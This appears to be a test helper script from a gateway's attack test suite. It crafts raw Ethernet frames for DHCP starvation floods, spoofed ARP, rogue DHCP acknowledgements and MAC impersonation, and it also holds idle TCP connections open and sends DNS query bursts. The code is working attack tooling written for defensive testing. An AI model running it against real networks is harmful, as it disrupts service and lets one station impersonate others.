#!/usr/bin/env python3
"""Forged LAN frames for the storegate attack tests (python3 stdlib only).

Run inside a client namespace, as root (AF_PACKET). Every frame goes out
with the interface's own Ethernet source address: one station speaking
for devices that are not it.

    forge.py flood IFACE COUNT
        COUNT DHCP DISCOVERs, each with a random unicast chaddr, COUNT ARP
        requests, each with a random sender hardware address, and COUNT
        DHCPACKs (as if this station were the DHCP server) to random
        chaddrs.
    forge.py flood-src IFACE COUNT
        COUNT DHCP DISCOVERs, each from a random Ethernet source whose chaddr
        matches it: invented phones that each speak only for themselves (a
        wired port, or a laptop re-associating with new MACs).
    forge.py as IFACE MAC
        A DHCP DISCOVER and a DHCP REQUEST whose chaddr is MAC (say, a
        remembered member's phone), and an ARP request from MAC.

    forge.py hold IFACE HOST PORT COUNT SECONDS
        Opens COUNT TCP connections to HOST:PORT, sends nothing, and holds
        them for SECONDS; then reports how many the server had closed.
        {"opened": N, "closed_by_server": M, "elapsed_ms": T}

    forge.py dns IFACE SERVER NAME COUNT
        COUNT DNS queries for NAME to SERVER:53 as fast as it can (a
        tunnel's pace), then one second for the answers.
        {"sent": N, "answered": M, "elapsed_ms": T}

Prints one JSON object on one line: {"sent": N, "elapsed_ms": T}.
"""

import errno
import json
import os
import resource
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total) & 0xFFFF


def random_unicast_mac():
    b = bytearray(os.urandom(6))
    b[0] = (b[0] & 0xFC) | 0x02  # unicast, locally administered
    return bytes(b)


def dhcp_frame(src, chaddr, message_type, requested=None, yiaddr=None):
    """A client message, or with `yiaddr` a server's answer (a forged ACK)."""
    reply = yiaddr is not None
    options = bytes([53, 1, message_type])
    if requested is not None:
        options += bytes([50, 4]) + socket.inet_aton(requested)
    options += bytes([255])
    bootp = struct.pack(
        "!BBBBIHH4s4s4s4s16s64s128s4s",
        2 if reply else 1, 1, 6, 0,      # BOOTREPLY/BOOTREQUEST, Ethernet
        int.from_bytes(os.urandom(4), "big"), 0, 0x8000,
        b"\0" * 4, socket.inet_aton(yiaddr) if reply else b"\0" * 4,
        b"\0" * 4, b"\0" * 4,
        chaddr + b"\0" * 10, b"\0" * 64, b"\0" * 128,
        bytes([99, 130, 83, 99]),
    ) + options
    bootp += b"\0" * max(0, 300 - len(bootp))
    ports = (67, 68) if reply else (68, 67)
    udp = struct.pack("!HHHH", ports[0], ports[1], 8 + len(bootp), 0) + bootp
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
        socket.inet_aton("0.0.0.0"), socket.inet_aton("255.255.255.255"),
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    eth = b"\xff" * 6 + src + b"\x08\x00"
    return eth + ip + udp


def arp_frame(src, sender_mac, sender_ip, target_ip):
    arp = struct.pack(
        "!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1,
        sender_mac, socket.inet_aton(sender_ip),
        b"\0" * 6, socket.inet_aton(target_ip),
    )
    return b"\xff" * 6 + src + b"\x08\x06" + arp


def hold(host, port, count, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = count + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(want, soft), max(want, hard)))
    start = time.monotonic()
    socks = []
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((host, port))
        socks.append(s)
    # How many the server's kernel completed (writable, no error).
    import select
    poller = select.poll()
    for s in socks:
        poller.register(s, select.POLLOUT)
    connected = set()
    deadline = time.monotonic() + 3.0
    while len(connected) < len(socks) and time.monotonic() < deadline:
        for fd, ev in poller.poll(100):
            poller.unregister(fd)
            if ev & select.POLLOUT and not ev & (select.POLLERR | select.POLLHUP):
                connected.add(fd)
    time.sleep(max(0.0, seconds - (time.monotonic() - start)))
    opened = closed = 0
    for s in socks:
        try:
            data = s.recv(1, socket.MSG_PEEK)
            opened += 1
            if data == b"":
                closed += 1
        except BlockingIOError:
            opened += 1  # connected, nothing to read: still open
        except OSError as e:
            if e.errno in (errno.ECONNRESET, errno.EPIPE):
                opened += 1
                closed += 1
        s.close()
    elapsed = (time.monotonic() - start) * 1000
    print(json.dumps({"opened": opened, "connected": len(connected),
                      "closed_by_server": closed,
                      "elapsed_ms": round(elapsed, 1)}), flush=True)


def dns_burst(server, name, count):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    start = time.monotonic()
    answered = set()
    for i in range(count):
        query = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", 1, 1)
        sock.sendto(query, (server, 53))
    deadline = time.monotonic() + 1.0
    while time.monotonic() < deadline:
        try:
            data, _ = sock.recvfrom(2048)
            if len(data) >= 2:
                answered.add(struct.unpack("!H", data[:2])[0])
        except BlockingIOError:
            time.sleep(0.005)
    elapsed = (time.monotonic() - start) * 1000
    print(json.dumps({"sent": count, "answered": len(answered),
                      "elapsed_ms": round(elapsed, 1)}), flush=True)


def main():
    mode, iface = sys.argv[1], sys.argv[2]
    if mode == "dns":
        dns_burst(sys.argv[3], sys.argv[4], int(sys.argv[5]))
        return
    if mode == "hold":
        hold(sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]))
        return
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    src = s.getsockname()[4][:6]
    start = time.monotonic()
    sent = 0
    if mode == "flood":
        count = int(sys.argv[3])
        for _ in range(count):
            s.send(dhcp_frame(src, random_unicast_mac(), 1))
            sent += 1
        for i in range(count):
            ip = "192.0.2.%d" % (2 + i % 250)
            s.send(arp_frame(src, random_unicast_mac(), ip, "192.0.2.1"))
            sent += 1
        for i in range(count):
            ip = "192.0.2.%d" % (2 + i % 250)
            s.send(dhcp_frame(src, random_unicast_mac(), 5, yiaddr=ip))
            sent += 1
    elif mode == "flood-src":
        for _ in range(int(sys.argv[3])):
            mac = random_unicast_mac()
            s.send(dhcp_frame(mac, mac, 1))
            sent += 1
    elif mode == "as":
        mac = bytes(int(x, 16) for x in sys.argv[3].split(":"))
        s.send(dhcp_frame(src, mac, 1))
        s.send(dhcp_frame(src, mac, 3, "192.0.2.150"))
        s.send(arp_frame(src, mac, "192.0.2.150", "192.0.2.1"))
        sent = 3
    else:
        sys.exit("unknown mode " + mode)
    elapsed = (time.monotonic() - start) * 1000
    print(json.dumps({"sent": sent, "elapsed_ms": round(elapsed, 1)}), flush=True)


if __name__ == "__main__":
    main()
